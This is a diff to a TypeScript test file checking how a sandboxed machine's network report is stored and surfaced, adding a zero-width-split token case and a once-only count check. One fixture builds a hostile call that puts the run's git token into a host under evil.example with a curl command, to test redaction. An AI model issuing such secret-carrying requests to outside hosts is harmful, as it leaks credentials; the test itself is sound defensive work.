@@ -101,10 +101,11 @@ describe("what a machine says of its network", () => {
   test("has no secret of the run, no line of its own and no hidden character", async () => {
     const { pipe, machine, taskId, token, answer } = await aRun();
     const secret = answer.git.token;
+    const split = `${secret.slice(0, 6)}\u200b${secret.slice(6)}`;
     const hostile = {
       ...call,
       host: `${secret}.evil.example\u202e`,
-      command: `curl\n\u001b[31m${secret}\u0000 \u200bx`,
+      command: `curl\n\u001b[31m${secret}\u0000 ${split} \u200bx`,
     };
     await machine.progress(token, 1, "working", { network: { ...sealed, blocked: [hostile] } });
     const text = JSON.stringify(await kept(pipe, taskId));
@@ -131,8 +132,12 @@ describe("what a machine says of its network", () => {
   test("is told on the issue where the network was open, and counted once", async () => {
     const { pipe, machine, token } = await aRun();
     const open = { ...sealed, seal: "open", reason: "not_permitted" };
+    const counted = async () =>
+      (await pipe.context.db.useCounts.read(["network:open"], pipe.clock.now().toISOString())).get("network:open") ?? 0;
+    const before = await counted();
     for (const seq of [1, 2, 3]) await machine.progress(token, seq, "working", { network: open });
     await machine.finish(token, { network: open });
+    expect((await counted()) - before).toBe(1);
     expect(pipe.github.state.comments[0]?.body).toContain("Network open: the machine could not be sealed");
     expect(pipe.github.state.pulls[0]?.body).toContain("Network open");
   });
